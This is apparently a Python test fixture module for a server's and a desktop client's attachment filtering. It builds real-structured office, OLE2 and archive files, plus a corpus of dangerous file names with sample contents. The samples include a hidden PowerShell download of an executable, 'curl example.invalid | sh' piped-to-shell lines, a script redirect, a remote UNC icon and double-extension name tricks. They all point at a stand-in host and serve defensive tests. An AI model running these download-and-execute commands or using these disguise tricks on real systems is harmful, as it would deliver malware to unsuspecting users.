"""Files for the attachment tests, made here with real structure: OOXML and OpenDocument packages,
OLE2 compound files (legacy Word and Excel) with or without macros — and the corpus of names that run
or render when opened on Windows, macOS or Linux, which the server refuses and the desktop never
hands to the system (tests/server/attachments, tests/desktop/attachments)."""

import gzip
import io
import struct
import tarfile
import zipfile

PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x01\x00\x00\x00\x01\x08\x02\x00\x00\x00\x90wS\xde" \
      b"\x00\x00\x00\x0cIDATx\x9cc\xf8\xcf\xc0\x00\x00\x03\x01\x01\x00\xc9\xfe\x92\xef\x00\x00\x00\x00IEND\xaeB`\x82"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00" + bytes(range(64))
GIF = b"GIF89a\x01\x00\x01\x00\x00\x00\x00;"
WEBP = b"RIFF\x24\x00\x00\x00WEBPVP8 " + bytes(24)
PDF = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<<>>\nendobj\n%%EOF\n"
TEXT = "Erreur E42 au démarrage du terminal.\n".encode()
SEVEN_Z = b"7z\xbc\xaf\x27\x1c\x00\x04" + bytes(32)

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"
ODT, ODS = "application/vnd.oasis.opendocument.text", "application/vnd.oasis.opendocument.spreadsheet"
_MAIN_PARTS = {DOCX: "word/document.xml", XLSX: "xl/workbook.xml", PPTX: "ppt/presentation.xml"}
_RELS = ('<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
         '2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
         'relationships/officeDocument" Target="{part}"/></Relationships>')


def zipped(entries: dict[str, bytes | str]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def ooxml(kind: str = DOCX, *, main_type: str | None = None, parts: dict[str, str] | None = None,
          overrides: dict[str, str] | None = None, prolog: str = "") -> bytes:
    """An OOXML package as Office writes it: `[Content_Types].xml` first, the package relationships,
    the main part of `kind` (its content type `main_type`, by default the document's own)."""
    main = _MAIN_PARTS[kind]
    declared = {f"/{main}": main_type or f"{kind}.main+xml", **(overrides or {})}
    content_types = (
        f'<?xml version="1.0" encoding="UTF-8"?>{prolog}'
        '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        + "".join(f'<Override PartName="{part}" ContentType="{ct}"/>' for part, ct in declared.items())
        + "</Types>"
    )
    return zipped({"[Content_Types].xml": content_types, "_rels/.rels": _RELS.format(part=main),
                   main: "<document/>", **(parts or {})})


def opendocument(mimetype: str = ODT, *, parts: dict[str, str] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", mimetype)  # first and stored, as the format asks
        archive.writestr("META-INF/manifest.xml", "<manifest/>", zipfile.ZIP_DEFLATED)
        archive.writestr("content.xml", "<office:document-content/>", zipfile.ZIP_DEFLATED)
        for name, data in (parts or {}).items():
            archive.writestr(name, data, zipfile.ZIP_DEFLATED)
    return buffer.getvalue()


# --- OLE2 compound files (legacy .doc / .xls) ---------------------------------------------------------
_SECTOR = 512
_FREE, _END, _FATSECT, _NOSTREAM = 0xFFFFFFFF, 0xFFFFFFFE, 0xFFFFFFFD, 0xFFFFFFFF


def _dir_entry(name: str, kind: int, *, child: int = _NOSTREAM, right: int = _NOSTREAM, start: int = _END,
               size: int = 0) -> bytes:
    encoded = (name + "\0").encode("utf-16-le")
    return (encoded.ljust(64, b"\0") + struct.pack("<HBB", len(encoded), kind, 1)
            + struct.pack("<III", _NOSTREAM, right, child) + bytes(36) + struct.pack("<IQ", start, size))


def ole(main_name: str, main: bytes, *, macro_storage: str | None = None) -> bytes:
    """A version 3 compound file whose first sector is the `main_name` stream (where `filetype` looks),
    and, with `macro_storage`, a `<macro_storage>/VBA/dir` stream as Word ("Macros") or Excel
    ("_VBA_PROJECT_CUR") keep a VBA project."""
    streams = [main.ljust(max(4096, -(-len(main) // _SECTOR) * _SECTOR), b"\0")]
    if macro_storage:
        streams.append(b"Attribute VB_Name = \"Module1\"".ljust(4096, b"\0"))
    fat, data, starts = [], b"", []
    for stream in streams:
        first, count = len(fat), len(stream) // _SECTOR
        starts.append(first)
        fat += [*range(first + 1, first + count), _END]
        data += stream
    fat_sector, dir_sector = len(fat), len(fat) + 1
    entries = [_dir_entry("Root Entry", 5, child=1),
               _dir_entry(main_name, 2, right=2 if macro_storage else _NOSTREAM, start=starts[0], size=len(streams[0]))]
    if macro_storage:
        entries += [_dir_entry(macro_storage, 1, child=3), _dir_entry("VBA", 1, child=4),
                    _dir_entry("dir", 2, start=starts[1], size=4096)]
    directory = b"".join(entries).ljust(-(-len(entries) // 4) * _SECTOR, b"\0")
    dir_sectors = len(directory) // _SECTOR
    fat += [_FATSECT, *range(dir_sector + 1, dir_sector + dir_sectors), _END]
    fat_bytes = struct.pack(f"<{len(fat)}I", *fat).ljust(_SECTOR, b"\xff")
    header = (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(16)
              + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + bytes(6)
              + struct.pack("<IIIIIIIII", 0, 1, dir_sector, 0, 4096, _END, 0, _END, 0)
              + struct.pack("<I", fat_sector) + struct.pack("<I", _FREE) * 108)
    return header + data + fat_bytes + directory


def _biff(record: int, body: bytes = b"") -> bytes:
    return struct.pack("<HH", record, len(body)) + body


def legacy_doc(*, macros: bool = False) -> bytes:
    return ole("WordDocument", b"\xec\xa5\xc1\x00" + bytes(60), macro_storage="Macros" if macros else None)


def legacy_xls(*, sheet_types: tuple[int, ...] = (0,), vba: bool = False, encrypted: bool = False) -> bytes:
    """A BIFF8 workbook: its globals (BOF, FILEPASS when encrypted, one BoundSheet8 per sheet type —
    0 a worksheet, 1 an Excel 4 macro sheet — and EOF)."""
    records = _biff(0x0809, struct.pack("<HH", 0x0600, 0x0005) + bytes(12))
    if encrypted:
        records += _biff(0x002F, bytes(54))
    for index, sheet_type in enumerate(sheet_types):
        name = f"Feuil{index + 1}".encode()
        records += _biff(0x0085, struct.pack("<IBBBB", 0, 0, sheet_type, len(name), 0) + name)
    records += _biff(0x000A)
    return ole("Workbook", records, macro_storage="_VBA_PROJECT_CUR" if vba else None)


def _tar() -> bytes:
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w") as archive:
        info = tarfile.TarInfo("journal.txt")
        info.size = 5
        archive.addfile(info, io.BytesIO(b"hello"))
    return buffer.getvalue()


PLAIN_ZIP = zipped({"journal.log": "ok"})
DOCM = ooxml(DOCX, main_type="application/vnd.ms-word.document.macroEnabled.main+xml",
             parts={"word/vbaProject.bin": "VBA"},
             overrides={"/word/vbaProject.bin": "application/vnd.ms-office.vbaProject"})

# name → (bytes, detected content type): each is accepted and round-trips.
ALLOWED_FILES: dict[str, tuple[bytes, str]] = {
    "photo.png": (PNG, "image/png"),
    "photo.jpg": (JPEG, "image/jpeg"),
    "scan.JPEG": (JPEG, "image/jpeg"),
    "anim.gif": (GIF, "image/gif"),
    "image.webp": (WEBP, "image/webp"),
    "devis.pdf": (PDF, "application/pdf"),
    "journal.txt": (TEXT, "text/plain"),
    "terminal.log": (TEXT, "text/plain"),
    "export.csv": (b"ref;qte\nA12;3\n", "text/plain"),
    "rapport.docx": (ooxml(DOCX), DOCX),
    "stock.xlsx": (ooxml(XLSX), XLSX),
    "presentation.pptx": (ooxml(PPTX), PPTX),
    "compte-rendu.odt": (opendocument(ODT), ODT),
    "inventaire.ods": (opendocument(ODS), ODS),
    "ancien.doc": (legacy_doc(), "application/msword"),
    "ancien.xls": (legacy_xls(), "application/vnd.ms-excel"),
    "logs.zip": (PLAIN_ZIP, "application/zip"),
    "logs.tar": (_tar(), "application/x-tar"),
    "logs.gz": (gzip.compress(b"journal"), "application/gzip"),
    "logs.tgz": (gzip.compress(_tar()), "application/gzip"),
    "logs.7z": (SEVEN_Z, "application/x-7z-compressed"),
}

_SCRIPT = b"@echo off\r\npowershell -w hidden -c \"iwr http://example.invalid/x.exe -o $env:TEMP\\x.exe\"\r\n"
_SHORTCUT = b"[InternetShortcut]\r\nURL=file:///C:/Windows/System32/calc.exe\r\n"
_LAUNCHER = b"[Desktop Entry]\nType=Application\nName=Facture\nExec=sh -c 'curl example.invalid | sh'\n"
_PAGE = b"Facture jointe <script>location='https://example.invalid'</script>\n"

# The corpus: names that run, install, mount or render something when opened, each with content the
# server would accept under a fitting name (so that only the name is at fault), and the type the
# server detects in it. The server refuses every one; the desktop opens none of those kept from
# before the server checked names.
DANGEROUS_FILES: dict[str, tuple[bytes, str]] = {
    # Windows scripts and their hosts
    "Facture.bat": (_SCRIPT, "text/plain"),
    "Facture.cmd": (_SCRIPT, "text/plain"),
    "relance.vbs": (b'CreateObject("WScript.Shell").Run "calc"\r\n', "text/plain"),
    "relance.vbe": (b"#@~^CAAAAA==\\ko$K6,JCV^GJqAQAAA==^#~@\r\n", "text/plain"),
    "script.js": (b'new ActiveXObject("WScript.Shell").Run("calc");\r\n', "text/plain"),
    "script.jse": (b"#@~^CAAAAA==C^+m^+H@#@&0AIAAA==^#~@\r\n", "text/plain"),
    "tache.wsf": (b"' job\r\n<job><script language=\"VBScript\">MsgBox 1</script></job>\r\n", "text/plain"),
    "tache.wsh": (b"[ScriptFile]\r\nPath=C:\\tache.vbs\r\n", "text/plain"),
    "outil.ps1": (b"Start-Process calc\r\n", "text/plain"),
    "module.psm1": (b"function Invoke-X { Start-Process calc }\r\n", "text/plain"),
    "reglages.reg": (b"REGEDIT4\r\n\r\n[HKEY_CURRENT_USER\\Software\\X]\r\n", "text/plain"),
    "pilote.inf": (b"[Version]\r\nSignature=\"$CHICAGO$\"\r\n", "text/plain"),
    "programme.com": (PDF, "application/pdf"),
    "programme.pif": (PDF, "application/pdf"),
    "panneau.cpl": (PDF, "application/pdf"),
    "Facture.pdf.exe": (PDF, "application/pdf"),
    "Facture.pdf.scr": (PDF, "application/pdf"),
    "photo.png.exe": (PNG, "image/png"),
    "setup.msi": (PDF, "application/pdf"),
    "correctif.msp": (PDF, "application/pdf"),
    "module.dll": (PDF, "application/pdf"),
    "complement.xll": (PDF, "application/pdf"),
    # shortcuts and shell files
    "raccourci.lnk": (PDF, "application/pdf"),
    "raccourci.url": (_SHORTCUT, "text/plain"),
    "raccourci.website": (_SHORTCUT, "text/plain"),
    "explorateur.scf": (b"[Shell]\r\nCommand=2\r\nIconFile=\\\\example.invalid\\x.ico\r\n", "text/plain"),
    "appli.appref-ms": (b"https://example.invalid/appli.application#appli.application\r\n", "text/plain"),
    "theme.theme": (b"[Theme]\r\nDisplayName=X\r\n", "text/plain"),
    "recherche.search-ms": (b"search-ms:query=facture&crumb=location:\\\\example.invalid\r\n", "text/plain"),
    "aide.chm": (PDF, "application/pdf"),
    # disk images (mounted, bypassing download marks)
    "disque.iso": (PDF, "application/pdf"),
    "disque.img": (PDF, "application/pdf"),
    "disque.vhd": (PDF, "application/pdf"),
    # markup rendered by a browser or a viewer that runs its scripts
    "page.hta": (_PAGE, "text/plain"),
    "page.html": (_PAGE, "text/plain"),
    "page.htm": (_PAGE, "text/plain"),
    "page.xhtml": (_PAGE, "text/plain"),
    "page.shtml": (_PAGE, "text/plain"),
    "archive.mht": (b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + _PAGE, "text/plain"),
    "archive.mhtml": (b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + _PAGE, "text/plain"),
    "image.svg": (_PAGE, "text/plain"),
    "message.eml": (b"From: x@example.invalid\r\nSubject: Facture\r\n\r\nBonjour\r\n", "text/plain"),
    # Linux and macOS
    "installer.sh": (b"curl example.invalid | sh\n", "text/plain"),
    "lancer.command": (b"open -a Calculator\n", "text/plain"),
    "lanceur.desktop": (_LAUNCHER, "text/plain"),
    "outil.py": (b"import os; os.system('calc')\n", "text/plain"),
    "script.pl": (b"system('xcalc');\n", "text/plain"),
    "script.rb": (b"system('xcalc')\n", "text/plain"),
    "appli.AppImage": (PDF, "application/pdf"),
    "Facture.app": (PLAIN_ZIP, "application/zip"),
    "paquet.deb": (PDF, "application/pdf"),
    # Java and app packages (zips)
    "module.jar": (zipped({"META-INF/MANIFEST.MF": "Main-Class: X\n"}), "application/zip"),
    "paquet.msix": (PLAIN_ZIP, "application/zip"),
    "paquet.appx": (PLAIN_ZIP, "application/zip"),
    "extension.xpi": (PLAIN_ZIP, "application/zip"),
    # office documents with macros, and archives posing as documents
    "rapport.docm": (DOCM, DOCX),
    "stock.xlsm": (ooxml(XLSX, main_type="application/vnd.ms-excel.sheet.macroEnabled.main+xml"), XLSX),
    "presentation.pptm": (
        ooxml(PPTX, main_type="application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"), PPTX),
    "modele.dotm": (ooxml(DOCX, main_type="application/vnd.ms-word.template.macroEnabledTemplate.main+xml"),
                    DOCX),
    "Facture.docx": (PLAIN_ZIP, "application/zip"),
    # tricks with the end of the name: Windows drops trailing dots and spaces, and reads any case
    "Facture.bat.": (_SCRIPT, "text/plain"),
    "Facture.bat ": (_SCRIPT, "text/plain"),
    "Facture.bat . .": (_SCRIPT, "text/plain"),
    "Facture.BAT": (_SCRIPT, "text/plain"),
    "Facture.txt.cmd": (_SCRIPT, "text/plain"),
    "Facture.pdf.Vbs": (_SCRIPT, "text/plain"),
}
# Refused for their macros before their name is looked at.
MACRO_NAMES = {"rapport.docm", "stock.xlsm", "presentation.pptm", "modele.dotm"}
